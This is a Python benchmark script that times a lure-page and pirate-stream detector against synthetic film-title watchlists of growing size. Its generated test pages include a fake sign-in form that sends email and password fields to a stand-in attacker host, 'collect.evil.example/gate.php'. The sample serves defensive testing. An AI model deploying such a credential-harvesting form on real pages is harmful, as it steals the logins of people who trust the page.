"""Detection throughput on one core with watchlists of 100, 1,000 and 10,000 titles.

    python bench/detection_bench.py [--pages DIR_OR_MANIFEST] [--sizes 100,1000,10000] [--repeat 3]
        [--modules]

Synthetic watchlists: the shipped titles plus generated ones whose words mix common English film
words ("the", "night", "dark"...) with invented words, so the index meets realistic collisions.
Pages: the labelled corpus (tests/corpus/manifest.jsonl) when present, else generated fake-stream,
review and lure pages. Detection is what the pipeline does per page: :func:`assess_page`, then the
candidate title when no watched title matched. Prints pages/s per size, the growth factor from the
smallest to the largest watchlist, and the floor: pages/s of a bare lxml parse of the same pages
with their visible text, links and forms read (what any detector pays), and detection's share of
it (detection / floor) at each size. The floor reads the text with the project's own extractor
(:mod:`pipelines.text`): making that faster raises the floor as well as detection. ``--modules``
adds where the time goes, per module.
"""

from __future__ import annotations

import argparse
import cProfile
import json
import pstats
import random
import sys
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

from pipelines.candidates import page_candidate  # noqa: E402
from pipelines.classify import read_page  # noqa: E402
from pipelines.scoring import assess_page  # noqa: E402
from pipelines.text import parse_html, visible_text  # noqa: E402
from pipelines.watchlists import Title, load_titles, load_watchlists  # noqa: E402

COMMON = (
    "the of a and in man night dark last day love war king world story house girl boy city "
    "black blue red white dead life time home star moon sun river road game star lost secret "
    "return rise fall legend shadow ghost heart blood fire ice stone iron golden silver wild "
    "little big great new old"
).split()


def synthetic_titles(n: int, seed: int = 7) -> list[Title]:
    """The shipped titles plus ``n - len(shipped)`` generated ones (deterministic)."""
    rng = random.Random(seed)  # noqa: S311 - synthetic data, not secrets
    titles = list(load_titles())
    seen = {t.title.casefold() for t in titles}
    syllables = [
        "ka",
        "lo",
        "mi",
        "ra",
        "ven",
        "dor",
        "tis",
        "qua",
        "ber",
        "zan",
        "el",
        "or",
        "thi",
        "mur",
        "pex",
    ]
    while len(titles) < n:
        words = []
        for _ in range(rng.choice((1, 2, 2, 3, 3, 4))):
            if rng.random() < 0.55:
                words.append(rng.choice(COMMON))
            else:
                words.append("".join(rng.choice(syllables) for _ in range(rng.randint(2, 3))))
        if rng.random() < 0.15:
            words.append(str(rng.randint(2, 6)))
        name = " ".join(words).title()
        if name.casefold() in seen or not any(
            w.isalpha() and w.lower() not in COMMON for w in words
        ):
            continue
        seen.add(name.casefold())
        titles.append(Title(name, rng.randint(1960, 2026)))
    return titles[:n]


def _write_titles(titles: list[Title], path: Path) -> None:
    path.write_text(
        "".join(f"- {{title: {json.dumps(t.title)}, year: {t.year}}}\n" for t in titles),
        encoding="utf-8",
    )


def corpus_pages(manifest: Path) -> list[tuple[str, str]]:
    base = manifest.parent
    entries = [
        json.loads(line)
        for line in manifest.read_text(encoding="utf-8").splitlines()
        if line.strip()
    ]
    return [(read_page(base / e["path"]), e["url"]) for e in entries]


def generated_pages(count: int = 300, seed: int = 11) -> list[tuple[str, str]]:
    rng = random.Random(seed)  # noqa: S311 - synthetic data, not secrets
    filler = " ".join(rng.choice(COMMON) for _ in range(400))
    out = []
    for i in range(count):
        title = rng.choice(load_titles()).title
        kind = i % 3
        if kind == 0:
            body = (
                f"<h1>Watch {title} (2026) Full Movie Online Free HD</h1><p>{filler}</p>"
                f'<a href="https://bit.ly/x{i}"><img src="play.png" alt="play"></a>'
                + ", ".join(
                    f"{title} {s}"
                    for s in ("full movie", "online free", "123movies", "streaming vf")
                )
            )
        elif kind == 1:
            body = f"<h1>{title} review</h1><p>{filler}</p><p>{title} is in cinemas now.</p>"
        else:
            body = (
                f"<h1>{title} HD player</h1><p>Sign in to continue watching</p>"
                '<form action="https://collect.evil.example/gate.php">'
                '<input type="email" name="email">'
                f'<input type="password" name="pass"></form><p>{filler}</p>'
            )
        out.append(
            (
                f"<html><head><title>{title}</title></head><body>{body}</body></html>",
                f"https://s{i}.example/p",
            )
        )
    return out


def _detect(html: str, url: str, wl: object) -> None:
    got = assess_page(html, url, wl)  # type: ignore[arg-type]
    if got.matched_title is None:
        page_candidate(html, url, wl)  # type: ignore[arg-type]


def _floor(html: str, url: str) -> int:
    """A bare parse: the tree, its visible text, its links and its forms with their inputs."""
    root = parse_html(html)
    if root is None:
        return 0
    text = visible_text(root)
    links = [e.get("href") or e.get("src") for e in root.iter("a", "iframe")]
    forms = [
        (f.get("action"), [i.get("name") for i in f.iter("input")]) for f in root.iter("form")
    ]
    return len(text) + len(links) + len(forms)


def _rates(pages: list[tuple[str, str]], repeat: int, judge: object) -> list[float]:
    """Pages per second of each pass over ``pages``."""
    rates = []
    for _ in range(repeat):
        # CPU time of this process: one core's throughput, robust to other load on the machine
        started = time.process_time()
        for html, url in pages:
            judge(html, url)  # type: ignore[operator]
        rates.append(len(pages) / max(time.process_time() - started, 1e-9))
    return rates


def _best_rate(pages: list[tuple[str, str]], repeat: int, judge: object) -> float:
    return max(_rates(pages, repeat, judge))


def measure(
    pages: list[tuple[str, str]], titles_file: Path, repeat: int
) -> tuple[float, float, float]:
    """(index build seconds, pages per second of the first pass, best pages per second) for one
    watchlist. The first pass meets every page and word for the first time (the indexes'
    per-word memory empty, as for new pages of a crawl; the memos of short texts, shared by all
    watchlists, are not emptied); later passes meet them again."""
    wl = load_watchlists(titles=titles_file)
    started = time.process_time()
    _detect("<p>warm up</p>", "https://warm.example/", wl)  # builds the index and templates
    build = time.process_time() - started
    rates = _rates(pages, repeat, lambda html, url: _detect(html, url, wl))
    return build, rates[0], max(rates)


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--pages", type=Path, default=ROOT / "tests" / "corpus" / "manifest.jsonl")
    parser.add_argument("--sizes", default="100,1000,10000")
    parser.add_argument("--repeat", type=int, default=3)
    parser.add_argument("--workdir", type=Path, default=Path("/tmp"))  # noqa: S108 - scratch watchlists
    parser.add_argument(
        "--modules", action="store_true", help="also print the time per module (profiled)"
    )
    args = parser.parse_args(argv)
    pages = corpus_pages(args.pages) if args.pages.is_file() else generated_pages()
    source = args.pages if args.pages.is_file() else "generated pages"
    size_bytes = sum(len(h) for h, _ in pages) / max(1, len(pages))
    print(
        f"{len(pages)} pages from {source} (mean {size_bytes / 1024:.1f} KiB), "
        f"one core (CPU time), best of {args.repeat}"
    )
    floor = _best_rate(pages, args.repeat, _floor)
    print(f"  floor (lxml parse + visible text + links + forms): {floor:8.1f} pages/s")
    rates = []
    for n in (int(s) for s in args.sizes.split(",")):
        path = args.workdir / f"lurewatch-bench-titles-{n}.yaml"
        _write_titles(synthetic_titles(n), path)
        build, first, rate = measure(pages, path, args.repeat)
        rates.append(rate)
        print(
            f"  {n:>6} titles: {rate:8.1f} pages/s   detection/floor {rate / floor:6.1%}   "
            f"first pass {first:6.1f} pages/s ({first / floor:5.1%})   "
            f"(index built in {build * 1000:.0f} ms)"
        )
    if len(rates) > 1:
        print(
            f"  cost growth {args.sizes.split(',')[0]} -> {args.sizes.split(',')[-1]} titles: "
            f"{rates[0] / rates[-1]:.2f}x"
        )
    if args.modules:
        _print_modules(pages, args.workdir / f"lurewatch-bench-titles-{n}.yaml")
    return 0


def _print_modules(pages: list[tuple[str, str]], titles_file: Path, shown: int = 12) -> None:
    """Where detection's time goes: the CPU time spent in each module's own code (not in what
    it calls) over one pass with the last watchlist, largest first (under the profiler, which
    slows Python code more than C code: shares, not rates)."""
    wl = load_watchlists(titles=titles_file)
    _detect("<p>warm up</p>", "https://warm.example/", wl)
    profile = cProfile.Profile()
    profile.enable()
    for html, url in pages:
        _detect(html, url, wl)
    profile.disable()
    spent: dict[str, float] = {}
    for (path, _, _), row in pstats.Stats(profile).stats.items():  # type: ignore[attr-defined]
        module = _module_of(path)
        spent[module] = spent.get(module, 0.0) + row[2]
    total = sum(spent.values()) or 1.0
    print(f"  time per module (own code, one pass, profiled; total {total:.2f} s):")
    for module, seconds in sorted(spent.items(), key=lambda kv: -kv[1])[:shown]:
        print(f"    {seconds / total:6.1%}  {module}")


def _module_of(path: str) -> str:
    """``pipelines/matching.py`` for a file of the project, the library's name otherwise,
    "built-in" for C functions (regex, str methods, lxml calls...)."""
    if path == "~":
        return "built-in (C: regex, str methods, lxml, rapidfuzz...)"
    try:
        return Path(path).resolve().relative_to(ROOT).as_posix()
    except ValueError:
        return Path(path).parent.name + "/" + Path(path).name


if __name__ == "__main__":
    raise SystemExit(main())
